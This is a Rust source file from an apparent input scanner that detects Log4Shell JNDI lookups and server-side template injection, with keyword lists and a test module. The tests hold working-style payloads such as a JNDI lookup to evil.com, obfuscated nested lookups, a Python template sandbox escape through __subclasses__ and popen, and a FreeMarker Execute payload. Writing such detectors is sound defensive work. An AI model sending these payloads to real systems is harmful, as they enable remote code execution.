//! Expression-language injections: JNDI lookups (Log4Shell, with nested `${lower:j}` /
//! `${::-j}` obfuscation resolved) and server-side template injection (`{{7*7}}`, `${…}`,
//! `#{…}`, `<%= %>`, `{% %}`, FreeMarker directives) whose expression computes or reaches
//! into objects.

use crate::prefilter::{BRACE, BRACKET, DOLLAR, LT, PAREN, PERCENT};
use crate::text::{contains_ci, excerpt, find_ci, in_list, starts_ci, Words};
use crate::{Family, Finding, Level, View};

const MAX_LOOKUP_DEPTH: u32 = 8;
const MAX_LOOKUP_LEN: usize = 256;

/// Log4j lookup prefixes that read secrets or reach the network.
const LOOKUPS: Words = Words::new(&[
    "jndi",
    "env",
    "sys",
    "java",
    "ctx",
    "main",
    "bundle",
    "k8s",
    "docker",
    "spring",
    "log4j",
    "web",
    "jvmrunargs",
    "base64",
    "date",
    "upper",
    "lower",
    "sd",
    "map",
    "marker",
    "event",
]);

/// Resolves one `${…}` starting after `${`; returns (end, resolved text).
fn lookup(s: &[u8], mut i: usize, depth: u32, hits: &mut bool) -> (usize, Vec<u8>) {
    let mut buf = Vec::new();
    while i < s.len() {
        if s[i] == b'$' && s.get(i + 1) == Some(&b'{') && depth < MAX_LOOKUP_DEPTH {
            let (e, r) = lookup(s, i + 2, depth + 1, hits);
            if buf.len() < MAX_LOOKUP_LEN {
                buf.extend_from_slice(&r);
            }
            i = e;
            continue;
        }
        if s[i] == b'}' {
            i += 1;
            break;
        }
        if buf.len() < MAX_LOOKUP_LEN {
            buf.push(s[i]);
        }
        i += 1;
    }
    if starts_ci(&buf, 0, b"jndi:") {
        *hits = true;
    }
    if depth == 0 {
        return (i, buf);
    }
    // inner lookups evaluate to their default or their argument
    let resolved = if let Some(p) = buf.windows(2).position(|w| w == b":-") {
        buf[p + 2..].to_vec()
    } else if let Some(p) = buf.iter().position(|&b| b == b':') {
        let prefix = &buf[..p];
        if in_list(prefix, &["lower", "upper", "date"]) {
            buf[p + 1..].iter().copied().filter(|&b| b != b'\'').collect()
        } else {
            buf
        }
    } else {
        buf
    };
    (i, resolved)
}

/// JNDI / Log4Shell lookups.
#[inline]
pub(crate) fn scan_jndi(v: &View<'_>) -> Option<Finding> {
    // the gate stays in the caller's frame: most values leave here without a call
    if !(v.classes.any(DOLLAR) && v.classes.any(BRACE)) {
        return None;
    }
    scan_jndi_gated(v)
}

#[inline(never)]
fn scan_jndi_gated(v: &View<'_>) -> Option<Finding> {
    let s = v.bytes;
    let mut i = 0;
    while i + 1 < s.len() {
        if s[i] == b'$' && s[i + 1] == b'{' {
            let mut hits = false;
            let (e, outer) = lookup(s, i + 2, 0, &mut hits);
            let nested = s[i + 2..e.min(s.len())].windows(2).any(|w| w == b"${");
            let prefix_end = outer.iter().position(|&b| b == b':');
            let known = prefix_end.is_some_and(|p| LOOKUPS.contains(&outer[..p]));
            if hits || (known && nested) || (known && v.level >= Level::L2) {
                return Some(Finding::new(Family::Jndi, excerpt(s, i)));
            }
            i = e.max(i + 2);
            continue;
        }
        i += 1;
    }
    None
}

/// Names that only make sense inside template-engine sandboxes escapes.
const TEMPLATE_OBJECTS: Words = Words::new(&[
    "config",
    "self",
    "request",
    "lipsum",
    "cycler",
    "joiner",
    "namespace",
    "settings",
    "__class__",
    "__mro__",
    "__subclasses__",
    "__globals__",
    "__builtins__",
    "__import__",
    "getclass",
    "forname",
    "runtime",
    "processbuilder",
    "freemarker",
    "execute",
    "popen",
    "system",
    "exec",
    "eval",
    "application",
    "session",
    "product",
]);

/// True if a template expression computes or reaches into objects.
fn dynamic_expr(e: &[u8]) -> bool {
    if e.is_empty() || e.len() > 512 {
        return false;
    }
    // number (op) number: 7*7, 1337*1338, 16 * 8787
    let n = e.len();
    let mut i = 0;
    while i < n {
        if e[i].is_ascii_digit() && (i == 0 || !e[i - 1].is_ascii_alphanumeric()) {
            let mut j = i;
            while j < n && e[j].is_ascii_digit() {
                j += 1;
            }
            let mut k = j;
            while k < n && e[k] == b' ' {
                k += 1;
            }
            if k < n && matches!(e[k], b'*' | b'+' | b'-' | b'/' | b'%') {
                let mut m = k + 1;
                while m < n && e[m] == b' ' {
                    m += 1;
                }
                if m < n && e[m].is_ascii_digit() {
                    return true;
                }
            }
            i = j;
            continue;
        }
        i += 1;
    }
    if e.windows(2).any(|w| w == b"__") {
        return true;
    }
    let mut i = 0;
    while i < n {
        if e[i].is_ascii_alphabetic() && (i == 0 || !e[i - 1].is_ascii_alphanumeric() && e[i - 1] != b'_') {
            let mut j = i;
            while j < n && (e[j].is_ascii_alphanumeric() || e[j] == b'_') {
                j += 1;
            }
            let w = &e[i..j];
            let next = e.get(j).copied();
            if TEMPLATE_OBJECTS.contains(w)
                && (matches!(next, Some(b'.' | b'[' | b'('))
                    || j == n
                    || e[i..].iter().all(|b| b.is_ascii_alphanumeric() || *b == b' ' || *b == b'_'))
            {
                return true;
            }
            if next == Some(b'(') && (e[..i].contains(&b'.') || e[j..].contains(&b'"') || e[j..].contains(&b'\'')) {
                return true;
            }
            i = j;
            continue;
        }
        i += 1;
    }
    contains_ci(e, b"t(java.") || contains_ci(e, b".class") || contains_ci(e, b"?new(")
}

/// Server-side template injection.
#[inline]
pub(crate) fn scan_ssti(v: &View<'_>) -> Option<Finding> {
    // the gate stays in the caller's frame: most values leave here without a call
    if !(v.classes.any(BRACE | LT | PERCENT | DOLLAR)) {
        return None;
    }
    scan_ssti_gated(v)
}

#[inline(never)]
fn scan_ssti_gated(v: &View<'_>) -> Option<Finding> {
    let s = v.bytes;
    let f = |at: usize| Some(Finding::new(Family::Ssti, excerpt(s, at)));
    const DELIMS: &[(&[u8], &[u8])] = &[
        (b"{{", b"}}"),
        (b"${", b"}"),
        (b"#{", b"}"),
        (b"*{", b"}"),
        (b"<%=", b"%>"),
        (b"<%", b"%>"),
        (b"{%", b"%}"),
        (b"@(", b")"),
        (b"[[", b"]]"),
    ];
    for (open, close) in DELIMS {
        let present = match open[0] {
            b'{' | b'$' | b'#' | b'*' => v.classes.any(BRACE),
            b'<' => v.classes.any(PERCENT),
            b'@' => v.classes.any(PAREN),
            _ => v.classes.any(BRACKET),
        };
        if !present {
            continue;
        }
        let mut from = 0;
        let mut count = 0;
        while let Some(p) = find_ci(&s[from..], open).map(|p| p + from) {
            count += 1;
            if count > 32 {
                break;
            }
            let inner_start = p + open.len();
            let window = &s[inner_start..(inner_start + 512).min(s.len())];
            let inner = match find_ci(window, close) {
                Some(e) => &window[..e],
                None => window,
            };
            let call_in_el = matches!(*open, b"${" | b"#{")
                && inner.iter().position(|&b| b == b'(').is_some_and(|q| {
                    q > 0
                        && inner[..q]
                            .iter()
                            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'@' | b'.' | b'_' | b' '))
                });
            if dynamic_expr(inner) || call_in_el {
                return f(p);
            }
            from = inner_start;
        }
    }
    // FreeMarker / Velocity directives
    for d in [&b"<#assign"[..], b"#set(", b"<#import", b"#foreach(", b"$class.inspect"] {
        if let Some(p) = find_ci(s, d) {
            return f(p);
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use crate::{Context, Detector, Family, Level, Place};

    fn fam(s: &str) -> Option<Family> {
        Detector::new(Level::L1).scan(s.as_bytes(), Context::new(Place::JsonString)).map(|f| f.family)
    }

    #[test]
    fn jndi() {
        for a in [
            "${jndi:ldap://evil.com/a}",
            "${${lower:j}ndi:ldap://x/a}",
            "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}",
            "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x}",
            "${jndi:ldap://${hostName}.oast.me/a}",
        ] {
            assert_eq!(fam(a), Some(Family::Jndi), "{a}");
        }
        assert_eq!(fam("Total: ${amount}"), None);
    }

    #[test]
    fn ssti() {
        for a in [
            "{{7*7}}",
            "{{1337*1338}}",
            "{{config}}",
            "{{''.__class__.__mro__[1].__subclasses__()}}",
            "${7*7}",
            "#{16*8787}",
            "<%= 7*7 %>",
            "{% import os %}{{ os.popen('id').read() }}",
            "<#assign ex = \"freemarker.template.utility.Execute\"?new()>${ ex(\"id\")}",
        ] {
            assert_eq!(fam(a), Some(Family::Ssti), "{a}");
        }
        for b in ["Hello {{ name }}", "{% $NUM_VIEWS|STRING_FORMAT:\"%D\" %} VUES", "Price: ${price}", "see #{section}"]
        {
            assert_eq!(fam(b), None, "{b}");
        }
    }
}
